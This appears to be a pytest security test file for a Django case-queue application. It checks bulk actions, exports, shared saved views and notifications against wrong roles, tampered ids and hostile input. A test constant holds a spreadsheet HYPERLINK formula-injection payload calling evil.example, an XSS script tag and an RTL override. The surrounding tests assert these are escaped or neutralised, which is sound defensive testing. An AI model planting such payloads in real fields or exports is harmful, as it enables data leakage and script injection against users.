# ruff: noqa: E501  (each test's docstring is one line: the attack and the safe behaviour)
"""Queue bulk work, the queue export, shared saved views and the notifications, tried from outside: other roles and
units, tampered selections, hostile text, another user's notifications, the admin site as a second door. Each test
asserts the safe behaviour; a refused request also leaves everything as it was."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.contrib.messages import get_messages
from django.core import mail
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts import services as account_services
from accounts.models import Role, SavedQueueFilter
from cases import messages, notifications, services
from cases.choices import CaseStatus, EventKind, FlagKind, NoteVisibility
from cases.models import Case, CaseEvent, Notification, NotificationPreference
from tests.api.conftest import token_client
from tests.conftest import reauthenticated
from tests.factories import case_in, draft, member

pytestmark = pytest.mark.django_db
S = CaseStatus
BULK = "/queue/bulk/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"x")<script>alert(1)</script>\u202e'


def page(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def seen(*cases: Case) -> list[str]:
    return [f"{c.pk}:{c.version}" for c in cases]


def snapshot(case: Case) -> tuple:
    case.refresh_from_db()
    return (case.status, case.version, case.assigned_to_id, case.events.count())


# --- bulk: who and what -----------------------------------------------------------------------------------------------


def test_an_officer_cannot_use_bulk_work_or_the_export(world):
    """An officer posts a bulk note on their own case and asks for the queue export: 403 both, nothing written."""
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    client = page(world.officer)
    response = client.post(
        BULK, {"action": "note", "case": seen(case), "text": "x", "visibility": "shared", "apply": "1"}
    )
    assert response.status_code == 403
    assert client.get("/queue/export/?format=csv").status_code == 403
    assert snapshot(case) == before


def test_a_sibling_supervisor_cannot_act_on_cases_outside_their_tree_nor_on_drafts(world):
    """A supervisor of the other province posts a bulk note on a case of this province and on a draft: 404, the same words for each, nothing written."""
    case, own_draft = case_in(world, S.INTAKE), draft(world)
    before = snapshot(case), snapshot(own_draft)
    response = page(world.sibling_supervisor).post(
        BULK,
        {"action": "note", "case": seen(case, own_draft), "text": "看到了", "visibility": "internal", "apply": "1"},
    )
    assert response.status_code == 404
    assert [o.reason for o in response.context["outcomes"]] == [
        "This case is not in your queue, or does not exist."
    ] * 2
    assert (snapshot(case), snapshot(own_draft)) == before


@pytest.mark.parametrize(
    "value",
    [
        "abc:1",
        "-1:1",
        "1:-1",
        "1:",
        ":1",
        "1" * 13 + ":1",
        "1:" + "9" * 10,
        "\u00b2:1",
        "1:\u00b2",
        "\u0663:1",
        "\uff11:1",
        "1\x00:1",
        "1 :1",
    ],
)
def test_a_tampered_selection_is_a_clear_refusal_never_an_error(world, value):
    """Non-numeric, negative, huge, Unicode-digit (superscript, Arabic-Indic, full-width) or NUL-bearing ids: 400 with the queue page's message, nothing written."""
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    response = page(world.supervisor).post(
        BULK, {"action": "note", "case": [value, *seen(case)], "text": "x", "visibility": "internal", "apply": "1"}
    )
    assert response.status_code == 400
    assert "The selection was not sent by the queue page. Select the cases again." in response.content.decode()
    assert snapshot(case) == before


def test_bulk_refer_and_assign_outside_the_actors_authority_are_refused(world):
    """A county supervisor refers to a unit of the other province, and assigns to a supervisor of the other province: the form refuses both (400), nothing written."""
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    client = page(world.county_supervisor)
    refer = client.post(
        BULK,
        {
            "action": "refer",
            "case": seen(case),
            "target": "internal_unit",
            "to_unit": world.sibling_station.pk,
            "track": "administrative",
            "apply": "1",
        },
    )
    assign = client.post(
        BULK, {"action": "assign", "case": seen(case), "assignee": world.sibling_supervisor.pk, "apply": "1"}
    )
    assert (refer.status_code, assign.status_code) == (400, 400)
    assert snapshot(case) == before


def test_bulk_assign_to_a_supervisor_of_one_selected_case_is_refused_for_the_other(world):
    """The city supervisor assigns a county case and a case of a sibling county unit to a supervisor covering only one of them: the other is refused by the service, untouched."""
    other_county = account_services.create_org_unit(code="330108", name="滨江区分局", level="county", parent=world.city)
    other_station = account_services.create_org_unit(
        code="330108001", name="长河派出所", level="station", parent=other_county
    )
    officer_there = member(other_station, Role.OFFICER)
    mine = case_in(world, S.INTAKE)
    theirs = Case.objects.get(pk=case_in(world, S.INTAKE).pk)
    Case.objects.filter(pk=theirs.pk).update(unit=other_station, unit_path=other_station.path, filed_by=officer_there)
    theirs.refresh_from_db()
    before = snapshot(theirs)
    response = page(world.supervisor).post(
        BULK, {"action": "assign", "case": seen(mine, theirs), "assignee": world.county_supervisor.pk, "apply": "1"}
    )
    assert response.status_code == 200
    assert [(o.case_id, o.done, o.reason) for o in response.context["outcomes"]] == [
        (mine.pk, True, ""),
        (theirs.pk, False, "The assignee must be a supervisor of the case's unit."),
    ]
    assert snapshot(theirs) == before


def test_a_hostile_bulk_note_lands_as_text_in_the_result_and_on_the_case_page(world):
    """A bulk note of script, formula and RTL override: stored as typed, shown escaped on the result page and the case page; a NUL byte is refused, nothing written."""
    case = case_in(world, S.INTAKE)
    client = page(world.supervisor)
    response = client.post(
        BULK, {"action": "note", "case": seen(case), "text": HOSTILE, "visibility": "internal", "apply": "1"}
    )
    assert response.status_code == 200
    assert "<script>alert(1)</script>" not in response.content.decode()
    note = CaseEvent.objects.get(case=case, kind=EventKind.NOTE)
    assert note.data == {"text": HOSTILE, "visibility": NoteVisibility.INTERNAL}
    html = client.get(reverse("cases:detail", args=[case.pk])).content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    case.refresh_from_db()
    before = snapshot(case)
    nul = client.post(
        BULK, {"action": "note", "case": seen(case), "text": "a\x00b", "visibility": "internal", "apply": "1"}
    )
    assert nul.status_code == 400
    assert snapshot(case) == before


def test_a_hostile_shared_view_name_is_text_and_its_query_never_widens_the_colleagues_queue(world):
    """A supervisor shares a view named with script and RTL override whose query names a unit of the other province: the colleague sees the name escaped, and following it is refused (400) without another province's case."""
    colleague = member(world.city, Role.SUPERVISOR, username="colleague")
    elsewhere = case_in(world, S.INTAKE)
    Case.objects.filter(pk=elsewhere.pk).update(unit=world.sibling_station, unit_path=world.sibling_station.path)
    elsewhere.refresh_from_db()
    owner = page(world.supervisor)
    owner.post("/queue/saved/", {"name": HOSTILE[:60], "query": f"unit={world.sibling_station.pk}", "shared": "on"})
    saved = SavedQueueFilter.objects.get(user=world.supervisor)
    assert saved.name == HOSTILE[:60].strip()
    client = page(colleague)
    html = client.get("/queue/").content.decode()
    assert "<script>" not in html
    response = client.get(f"/queue/?{saved.query}")
    assert response.status_code == 400
    assert elsewhere.reference not in response.content.decode()
    reauthenticated(client)
    export = client.get(f"/queue/export/?{saved.query}&format=csv")
    assert export.status_code == 400


def test_the_export_writes_a_hostile_unit_name_as_text_in_csv_and_xlsx(world):
    """A unit renamed to a formula: the CSV cell starts with a quote and the workbook holds a text cell, not a formula."""
    case = case_in(world, S.INTAKE)
    world.station.name = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    world.station.save(update_fields=["name"])
    client = page(world.supervisor)
    reauthenticated(client)
    response = client.get("/queue/export/?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == case.reference)
    assert row[4] == "'" + world.station.name
    book = openpyxl.load_workbook(io.BytesIO(b"".join(client.get("/queue/export/?format=xlsx").streaming_content)))
    cells = [r for r in book.active.iter_rows(values_only=True) if r[0] == case.reference]
    assert cells[0][4] == "'" + world.station.name
    assert book.active.cell(row=2, column=5).data_type == "s"


# --- notifications: another user's, through the page and the API --------------------------------------------------


def office_note(world, case: Case) -> Notification:
    return Notification.objects.create(
        recipient=world.supervisor, case=case, verb="secret", kind="records", created_at=case.created_at
    )


def test_another_users_notification_cannot_be_opened_or_marked_read_on_the_page_or_the_api(world):
    """The filer opens, marks read (one, and by id in the bulk API) the supervisor's notification about the filer's own case: 404 / 0, still unread."""
    case = case_in(world, S.INTAKE)
    note = office_note(world, case)
    client = page(world.officer)
    assert client.get(reverse("cases:notification-open", args=[note.pk])).status_code == 404
    assert client.post(reverse("cases:notification-read", args=[note.pk])).status_code == 404
    api = token_client(world.officer)
    assert api.post(f"/api/v1/notifications/{note.pk}/read/").status_code == 404
    assert api.post("/api/v1/notifications/read/", {"ids": [note.pk]}, format="json").json() == {"marked": 0}
    assert note.pk not in [n["id"] for n in api.get("/api/v1/notifications/").json()["results"]]
    note.refresh_from_db()
    assert note.read_at is None


def test_preferences_with_unknown_kinds_or_deliveries_are_refused_and_change_nothing(world):
    """The settings page receives an unknown kind, then a known kind with an unknown delivery: the unknown kind is ignored, the bad delivery refused (400), nothing stored for either."""
    client = page(world.officer)
    valid = dict.fromkeys(
        ("case_moves", "assignments", "records", "support_answers", "flags", "stage_warnings"), "email"
    )
    response = client.post(reverse("cases:notification-settings"), {**valid, "case_moves": "sms"})
    assert response.status_code == 400
    assert not NotificationPreference.objects.filter(user=world.officer).exists()
    response = client.post(
        reverse("cases:notification-settings"), {**valid, "email_problems": "daily", "bogus": "daily"}
    )
    assert response.status_code == 302
    assert set(NotificationPreference.objects.filter(user=world.officer).values_list("kind", flat=True)) == set(valid)


# --- the admin site as a second door --------------------------------------------------------------------------------


def test_a_staff_filer_does_not_read_the_offices_notifications_about_their_case_in_the_admin(world):
    """The filing officer, made staff with the right to view notifications, lists notifications in the admin: their own only, never the office's sentence about a supervision finding on their case; the office's row is a 404/redirect on its change page too."""
    case = case_in(world, S.SUPERVISION)
    own = Notification.objects.create(
        recipient=world.officer, case=case, verb="Your case moved.", kind="case_moves", created_at=case.created_at
    )
    office = Notification.objects.create(
        recipient=world.supervisor,
        case=case,
        verb="Zhao raised a supervision finding in the case — have it rectified.",
        kind="records",
        created_at=case.created_at,
    )
    world.officer.is_staff = True
    world.officer.save(update_fields=["is_staff"])
    world.officer.user_permissions.add(Permission.objects.get(codename="view_notification"))
    client = page(world.officer)
    listing = client.get(reverse("admin:cases_notification_changelist"))
    assert listing.status_code == 200
    assert [n.pk for n in listing.context["cl"].result_list] == [own.pk]
    assert "supervision finding" not in listing.content.decode()
    detail = client.get(reverse("admin:cases_notification_change", args=[office.pk]))
    assert detail.status_code in (302, 404)
    assert "supervision finding" not in detail.content.decode()


# --- the office's sentences, once the reader no longer reads the internal material --------------------------------


def office_sentence(recipient, case: Case, message: tuple[str, dict], **fields) -> Notification:
    """A stored notification whose sentence (``message``: key and parameters) is worded for the office."""
    key, params = message
    return Notification.objects.create(
        recipient=recipient,
        case=case,
        message=key,
        params={**params, "v": messages.VERSION, "to": messages.OFFICE},
        **fields,
    )


@pytest.fixture
def former_supervisor_note(world):
    """The filer was a supervisor of the county when the flag scan told them of a downgrade on their own case; they
    have since stopped supervising, and still see the case as its filer."""
    case = case_in(world, S.SUPERVISION)
    supervising = member(world.county, Role.SUPERVISOR)  # placeholder user to keep the county's supervisors
    assert supervising.pk != world.officer.pk
    account_services.grant_membership(user=world.officer, unit=world.county, role=Role.SUPERVISOR)
    note = office_sentence(
        world.officer,
        case,
        messages.for_flag(case.reference, FlagKind.DOWNGRADED, "R-ADM-01", "1"),
        verb="may have been handled below the minimum",
        kind="flags",
        created_at=timezone.now() - timedelta(hours=1),
    )
    world.officer.memberships.filter(role=Role.SUPERVISOR).delete()
    return note


def test_a_former_supervisor_no_longer_reads_the_offices_flag_sentence_about_their_own_case(
    world, former_supervisor_note
):
    """The filer, no longer a supervisor, lists notifications on the page and the API, opens and marks the office's flag notification read: it is not listed, 404, still unread."""
    note = former_supervisor_note
    client = page(world.officer)
    html = client.get(reverse("cases:notifications")).content.decode()
    assert "below the minimum" not in html
    assert client.get(reverse("cases:notification-open", args=[note.pk])).status_code == 404
    api = token_client(world.officer)
    assert [n["id"] for n in api.get("/api/v1/notifications/").json()["results"]] == []
    assert api.post("/api/v1/notifications/read/", {"ids": [note.pk]}, format="json").json() == {"marked": 0}
    note.refresh_from_db()
    assert note.read_at is None


def test_a_former_supervisor_is_not_e_mailed_the_offices_flag_sentence(world, former_supervisor_note):
    """The flag digest runs after the filer stopped supervising: no mail reaches them, and the notification is handled (not retried forever)."""
    world.officer.email = "officer@example.test"
    world.officer.save(update_fields=["email"])
    assert notifications.deliver_flag_digests() == 0
    assert [m.to for m in mail.outbox] == []
    former_supervisor_note.refresh_from_db()
    assert former_supervisor_note.emailed_at is not None


def test_ten_thousand_ids_or_an_administrator_posting_bulk_work_change_nothing(world):
    """10,000 ticked ids (the request is refused before any case is read), and the province's administrator (not a supervisor) posting a bulk note: refused, nothing written."""
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    many = [f"{pk}:1" for pk in range(1, 10_001)]
    flood = page(world.supervisor).post(
        BULK, {"action": "note", "case": [*seen(case), *many], "text": "x", "visibility": "internal", "apply": "1"}
    )
    assert flood.status_code == 400
    admin = page(world.admin).post(
        BULK, {"action": "note", "case": seen(case), "text": "x", "visibility": "internal", "apply": "1"}
    )
    assert admin.status_code == 403
    assert snapshot(case) == before


def test_a_second_or_concurrent_digest_run_sends_nothing_more(world):
    """The daily digest and the flag digest each run twice in a row: the second run of each sends no mail."""
    case = case_in(world, S.INTAKE)
    world.supervisor.email = "supervisor@example.test"
    world.supervisor.save(update_fields=["email"])
    now = timezone.now()
    Notification.objects.create(
        recipient=world.supervisor, case=case, verb="a", kind="records", delivery="daily", created_at=now
    )
    office_sentence(
        world.supervisor,
        case,
        messages.for_stage_warning(case.reference, case.status, now.isoformat()),
        verb="b",
        kind="stage_warnings",
        created_at=now,
    )
    assert (notifications.deliver_daily_digests(), notifications.deliver_flag_digests()) == (1, 1)
    assert (notifications.deliver_daily_digests(), notifications.deliver_flag_digests()) == (0, 0)
    assert len(mail.outbox) == 2


def test_a_very_long_bulk_note_is_refused_like_the_apis_and_nothing_is_written(world):
    """A 5,001-character bulk note on two cases (the API refuses notes over 5,000): 400 with a message at the field, the text kept in the form, neither case written; the case page's note form refuses it too."""
    a, b = case_in(world, S.INTAKE), case_in(world, S.INTAKE)
    before = snapshot(a), snapshot(b)
    long_text = "长" * 5001
    client = page(world.supervisor)
    response = client.post(
        BULK, {"action": "note", "case": seen(a, b), "text": long_text, "visibility": "internal", "apply": "1"}
    )
    assert response.status_code == 400
    assert response.context["form"].errors["text"] == ["Ensure this value has at most 5000 characters (it has 5001)."]
    assert long_text in response.content.decode()
    assert (snapshot(a), snapshot(b)) == before
    with pytest.raises(ValidationError):
        services.add_note(case=a, by=world.supervisor, text=long_text)
    assert snapshot(a) == before[0]


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("名" * 61, "Ensure this value has at most 60 characters (it has 61)."),
        ("a\x00b", "Null characters are not allowed."),
        ("   ", "Give the filter a name."),
    ],
)
def test_a_refused_saved_view_name_says_why_and_keeps_the_queue_filters(world, name, said):
    """A saved view named too long, with a NUL byte, or blank: nothing saved, the message says what is wrong, and the queue comes back with the filter the user was saving."""
    client = page(world.supervisor)
    response = client.post("/queue/saved/", {"name": name, "query": "status=intake&q=%3Cscript%3E"})
    assert response.status_code == 302
    assert response["Location"] == "/queue/?status=intake&q=%3Cscript%3E"
    assert [str(m) for m in get_messages(response.wsgi_request)] == [said]
    assert not SavedQueueFilter.objects.filter(user=world.supervisor).exists()
